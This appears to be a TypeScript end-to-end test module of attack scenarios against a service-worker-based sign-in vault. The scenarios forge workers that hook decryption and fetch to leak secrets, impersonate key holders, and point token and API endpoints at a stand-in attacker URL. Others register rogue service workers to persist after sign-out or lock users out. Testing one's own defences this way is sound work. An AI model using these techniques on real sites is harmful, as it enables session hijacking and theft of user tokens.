import { setTimeout as delay } from "node:timers/promises";
import { TRAP } from "../../e2e/trap.js";
import { attack } from "../attack.js";
import { listen, withoutRegister } from "./hooks.js";

export const stoppedWorker = attack({
  name: "contacts a restarted worker before its keeper does",
  threat: "single-execution theft",
  target: "strongroom",
  needs: "stop a worker",
  // The worker asks keepers for the copy; this page claims to be one.
  async payload(it) {
    const own = await crypto.subtle.generateKey({ name: "ECDH", namedCurve: "P-256" }, true, ["deriveKey"]);
    const raw = new Uint8Array(await crypto.subtle.exportKey("raw", own.publicKey));
    const key = btoa(String.fromCharCode(...raw))
      .replaceAll("+", "-")
      .replaceAll("/", "_")
      .replaceAll("=", "");
    const asks = Array.from({ length: 20 }, async (_, index) => {
      const response = await (index % 2 === 0
        ? fetch(`/auth/keep?key=${key}`, { signal: AbortSignal.timeout(800) })
        : fetch("/auth/keep", { method: "POST", body: new Uint8Array([...raw, ...new Uint8Array(40)]) }));
      it.steal(await response.text());
    });
    await Promise.allSettled(asks);
    it.steal(await (await fetch("/auth/session")).text());
  },
  async play(stage) {
    await stage.openSignedIn();
    await stage.browser.stopWorkers();
    await stage.inject();
  },
});

export const crashOfTheWasm = attack({
  name: "crashes the wasm and queries the worker afterwards",
  threat: "single-execution theft",
  target: "strongroom",
  workerPrelude: TRAP,
  async payload(it) {
    const startedAt = async () => (await (await fetch("/auth/session")).json()).worker.startedAt;
    const before = await startedAt();
    addEventListener("error", ({ message, error }) => it.steal(message, String(error?.stack)));
    for (const url of [`${it.apiUrl}me?trap=1`, "/auth/session?trap=2", `${it.apiUrl}me?trap=3`]) {
      const response = await fetch(url).catch(
        (error: unknown) => void it.steal(String(error), (error as Error).stack),
      );
      it.steal([...(response?.headers ?? [])], await response?.text());
      for (const path of ["session", "keep?key=x", "events", "debug"]) {
        const after = await fetch(`/auth/${path}`, { signal: AbortSignal.timeout(400) }).catch(
          () => undefined,
        );
        it.steal(await after?.text().catch(String));
      }
    }
    if ((await startedAt()) === before) throw new Error("nothing crashed");
  },
  // Without a keeper, the session is lost with the wasm, and the page navigates away to recover it.
  async play(stage) {
    await stage.openSignedIn();
    await stage.waitForKeeper();
    await stage.inject();
  },
});

export const forgedWorker = attack({
  name: "runs the worker's code with its own configuration",
  threat: "single-execution theft",
  target: "strongroom",
  async payload(it) {
    const config = {
      provider: {
        issuer: it.attackerUrl,
        clientId: it.clientId,
        authorizationEndpoint: it.authorizationEndpoint,
        tokenEndpoint: `${it.attackerUrl}/token`,
      },
      scopes: it.scope.split(" "),
      api: [{ url: `${it.attackerUrl}/` }, { url: it.apiUrl }],
    };
    // The genuine code, in a worker that records responses and decrypted data.
    const script = `
      const tell = (...values) => new BroadcastChannel("forged").postMessage(values.map(String));
      const { decrypt } = SubtleCrypto.prototype;
      SubtleCrypto.prototype.decrypt = async function (...args) {
        const bytes = await decrypt.apply(this, args);
        tell(new TextDecoder("latin1").decode(bytes.slice(0)));
        return bytes;
      };
      const { fetch } = self;
      self.fetch = async (...args) => {
        const response = await fetch(...args);
        tell(response.status, response.url, [...response.headers]);
        return response;
      };
      importScripts("${new URL("/strongroom-worker.js", it.appUrl)}");
      try { strongroom.start(${JSON.stringify(config)}); } catch (error) { tell(error); }`;
    new BroadcastChannel("forged").onmessage = ({ data }) => it.steal(data);
    for (const url of [
      URL.createObjectURL(new Blob([script], { type: "text/javascript" })),
      `data:text/javascript,${encodeURIComponent(script)}`,
    ]) {
      for (const kind of ["Worker", "SharedWorker"] as const) {
        try {
          new window[kind](it.scriptUrl(url));
        } catch {
          // The page's policy refuses the worker.
        }
      }
    }
    await it.pause(1_500);
  },
});

export const registerAgain = attack({
  name: "registers the worker again with another URL, scope or query",
  threat: "single-execution theft",
  target: "strongroom",
  leavesWorkers: true,
  hook: withoutRegister,
  async payload(it) {
    const config = encodeURIComponent(JSON.stringify({ api: [{ url: `${it.attackerUrl}/` }] }));
    for (const [url, options] of [
      [`/vault-worker.js?config=${config}`, {}],
      [`/vault-worker.js?api=${encodeURIComponent(it.attackerUrl)}`, {}],
      [`/vault-worker.js#config=${config}`, {}],
      ["/vault-worker.js?2", { scope: "/auth/" }],
      ["/vault-worker.js", { scope: "/auth/callback" }],
      ["/strongroom-worker.js", {}],
      ["/strongroom-worker.js", { scope: "/auth/keep" }],
      ["/vault-worker.js", { type: "module", scope: "/module/" }],
      [`/vault-worker.js?${config}`, { updateViaCache: "all", scope: "/x/" }],
    ] as [string, RegistrationOptions][]) {
      const registration = await genuineRegister
        .call(navigator.serviceWorker, it.scriptUrl(url), options)
        .catch((error: unknown) => void it.steal(String(error)));
      const worker = registration?.installing ?? registration?.waiting ?? registration?.active;
      const { port1, port2 } = new MessageChannel();
      port1.onmessage = ({ data }) => it.steal(data);
      worker?.postMessage("strongroom:hello", [port2]);
      await it.pause(60);
      for (const home of [it.attackerUrl, it.siblingUrl]) await fetch(`${home}/registered`).catch(() => {});
      await fetch(`${it.apiUrl}me`).catch(() => {});
    }
    const frame = document.createElement("iframe");
    frame.src = it.authorizationUrl();
    document.body.append(frame);
    await it.pause(400);
    try {
      it.steal(frame.contentWindow?.location.href);
    } catch {
      // Cross-origin.
    }
  },
  async play(stage) {
    stage.hook([]);
    await stage.openSignedIn();
    stage.hook([registerAgain]);
    await stage.openUnconnected();
    await stage.inject();
  },
});

export const ownScriptAsServiceWorker = attack({
  name: "registers its own script file as a service worker",
  threat: "persistent theft",
  target: "strongroom",
  leavesWorkers: true,
  hook: listen,
  async payload(it) {
    for (const scope of ["/", "/auth/", "/assets/"]) {
      await navigator.serviceWorker
        .register(it.scriptUrl("/assets/worker-of-the-attacker.js"), { scope })
        .catch((error: unknown) => it.steal(String(error)));
    }
    await it.pause(300);
    const frame = document.createElement("iframe");
    frame.src = it.authorizationUrl();
    document.body.append(frame);
    await it.pause(2_500);
  },
  async play(stage) {
    await stage.playOwnWorker("/assets/worker-of-the-attacker.js");
  },
});

export const ownScriptAtTheRoot = attack({
  name: "registers a script at the root of the app's origin as a service worker",
  threat: "persistent theft",
  target: "strongroom",
  leavesWorkers: true,
  hook: listen,
  // Registers from the page and from every document of the origin that the page can access, including the server's own error
  // pages (RFC 9110 section 15.5.15, RFC 6585 section 5), which lack the host's headers.
  async payload(it) {
    const script = "/worker-of-the-attacker.js";
    const tooLong = `/?${"x".repeat(20_000)}`;
    const blank = URL.createObjectURL(new Blob(["<p>"], { type: "text/html" }));
    const popups = ["/config.json", tooLong, "", "about:blank#x", blank, "/auth/x"].map((src) =>
      window.open(src),
    );
    const { documentPictureInPicture } = window as {
      documentPictureInPicture?: { requestWindow(): Promise<Window> };
    };
    popups.push((await documentPictureInPicture?.requestWindow().catch(() => null)) ?? null);
    const frames = [
      tooLong,
      "/%",
      `/${"x".repeat(20_000)}`,
      "/empty.html",
      "/config.json",
      "/vault-worker.js",
      "/auth/x",
      "/api/v1/echo",
      "about:blank",
      blank,
    ].map((src) => Object.assign(document.createElement("iframe"), { src }));
    document.body.append(...frames);
    await Promise.race([
      it.pause(2_000),
      Promise.all(frames.map((frame) => new Promise((loaded) => frame.addEventListener("load", loaded)))),
    ]);
    let registered = false;
    for (const place of [window, ...popups, ...frames.map((frame) => frame.contentWindow)]) {
      try {
        const { navigator, trustedTypes } = place as unknown as typeof globalThis & {
          trustedTypes?: {
            createPolicy(name: string, rules: object): { createScriptURL(url: string): string };
          };
        };
        let url = it.scriptUrl(script);
        if (place !== window) {
          const rules = { createScriptURL: (text: string) => text };
          url = trustedTypes?.createPolicy("strongroom", rules).createScriptURL(script) ?? script;
        }
        await navigator.serviceWorker.register(url, { scope: "/" });
        registered = true;
        break;
      } catch {
        // Try the next document.
      }
    }
    for (const popup of popups) popup?.close();
    if (!registered) return;
    const registration = await navigator.serviceWorker.getRegistration("/");
    while (!registration?.active?.scriptURL.endsWith(script)) await it.pause(50);
    const frame = document.createElement("iframe");
    frame.src = it.authorizationUrl();
    document.body.append(frame);
  },
  async play(stage) {
    await stage.playOwnWorker("/worker-of-the-attacker.js");
  },
});

export const registrationAtTheEndpoints = attack({
  name: "registers a service worker at or below the vault's endpoints",
  threat: "disabling the sign-in",
  target: "strongroom",
  leavesWorkers: true,
  async payload(it) {
    const { place = "" } = window as { place?: string };
    const [script = "", scope = ""] = place.split(" ");
    const registration = await navigator.serviceWorker
      .register(it.scriptUrl(script), { scope })
      .catch(() => undefined);
    for (let tries = 0; tries < 40 && registration && !registration.active; tries++) await it.pause(50);
  },
  async play(stage) {
    const { browser, site } = stage;
    const user = await browser.currentTab();
    for (const script of ["/strongroom-worker.js", "/vault-worker.js"]) {
      for (const scope of ["/auth", "/auth/", "/auth/login", "/auth/callback"]) {
        await stage.openSignedIn();
        await stage.signOut();
        const hostile = await browser.newTab(`${site.origin}/`);
        await stage.waitForState("signed-out");
        await browser.evaluate((place) => void Object.assign(window, { place }), `${script} ${scope}`);
        await stage.inject();
        await stage.closeThisTab(user);
        // All pages with the attacker's script are closed.
        await browser.leavePage();
        if (!(await stage.canSignIn())) stage.disabled.push(`${script} at ${scope}`);
        else continue;
        await stage.forgetEverything();
        void hostile;
      }
    }
  },
  gain: async ({ disabled }) =>
    disabled.length > 0 ? `nobody can sign in any more: ${disabled.join("; ")}` : undefined,
});

export const secondVault = attack({
  name: "registers a second vault under another scope to outlive the sign-out",
  threat: "persistent theft",
  target: "strongroom",
  leavesWorkers: true,
  hook: withoutRegister,
  async payload(it) {
    const send = async (method: string, url: string) => {
      const response = await fetch(url, { method }).catch(() => undefined);
      return (await response?.text().catch(() => "")) ?? "";
    };
    if (location.pathname.startsWith("/v")) {
      for (let tries = 0; tries < 3; tries++) {
        for (const url of [`${it.apiUrl}me`, `${it.ownApiUrl}me`]) it.steal(await send("GET", url));
        it.steal(await send("POST", "/auth/refresh"));
      }
      return;
    }
    const register = async (url: string, scope: string) => {
      const registration = await genuineRegister
        .call(navigator.serviceWorker, it.scriptUrl(url) as string, { scope })
        .catch(() => undefined);
      // A refused worker never becomes active.
      for (let tries = 0; tries < 40 && registration; tries++) {
        if (registration.active && !registration.installing && !registration.waiting) return;
        await it.pause(50);
      }
    };
    // The first vault sends these keepers a copy, as it does to every keeper.
    new Worker(it.scriptUrl("/vault-worker.js"));
    if ("SharedWorker" in window) new SharedWorker(it.scriptUrl("/vault-worker.js"));
    const keepers = async () => {
      const session = JSON.parse((await send("GET", "/auth/session")) || "{}");
      return session.worker?.keepers ?? 0;
    };
    for (let tries = 0; tries < 40 && (await keepers()) < 1; tries++) await it.pause(50);
    // Its scope covers the worker script, so `clients.claim()` takes over these keepers.
    await register("/vault-worker.js", "/v");
    // A new version makes the first vault drain, and the keepers look for a vault that asks for their copy.
    await register("/vault-worker.js?2", "/");
  },
  async play(stage) {
    stage.hook([]);
    await stage.openSignedIn();
    stage.hook([secondVault]);
    await stage.openUnconnected();
    await stage.inject();
    // Firefox ends a keeper's stream by itself, some seconds after its request.
    await delay(7_000);
    const attackers = await stage.signOutInAnotherWindow();
    stage.hook([secondVault]);
    await stage.browser.waitFor("a page under the second vault", async () => {
      await stage.browser.goto(`${stage.site.origin}/v`);
      return await stage.browser.evaluate(() => typeof attacker === "object");
    });
    await stage.inject();
    await stage.closeThisTab(attackers);
  },
  gain: async (stage) => stage.requestAsTheUser(),
});

export const unregisteredVault = attack({
  name: "keeps an unregistered vault alive in a frame to outlive the sign-out",
  threat: "persistent theft",
  target: "strongroom",
  leavesWorkers: true,
  hook: withoutRegister,
  async payload(it) {
    const own = globalThis as { vaults?: (typeof globalThis)[] };
    if (!own.vaults) {
      // The next vault claims documents by their URL. These have no URL of their own.
      const frames = [
        "about:blank",
        "javascript:void 0",
        URL.createObjectURL(new Blob([""], { type: "text/html" })),
      ];
      own.vaults = [globalThis];
      for (const src of frames) {
        const frame = document.createElement("iframe");
        frame.src = src;
        document.body.append(frame);
        await it.pause(200);
        try {
          const inside = frame.contentWindow as unknown as typeof globalThis;
          await inside.fetch("/auth/events");
          own.vaults.push(inside);
        } catch {
          // The policy refuses the frame.
        }
      }
      await fetch("/auth/events");
      for (const registration of await navigator.serviceWorker.getRegistrations())
        await registration.unregister();
      return;
    }
    for (const vault of own.vaults) {
      it.steal(await (await vault.fetch(`${it.apiUrl}me`).catch(() => undefined))?.text());
      it.steal(await (await vault.fetch("/auth/refresh", { method: "POST" }).catch(() => undefined))?.text());
      it.steal(await (await vault.fetch(`${it.apiUrl}me`).catch(() => undefined))?.text());
    }
  },
  async play(stage) {
    stage.hook([]);
    await stage.openSignedIn();
    stage.hook([unregisteredVault]);
    await stage.openUnconnected();
    await stage.inject();
    await stage.closeThisTab(await stage.signOutInAnotherWindow());
    await stage.inject();
  },
  gain: async (stage) => stage.requestAsTheUser(),
});
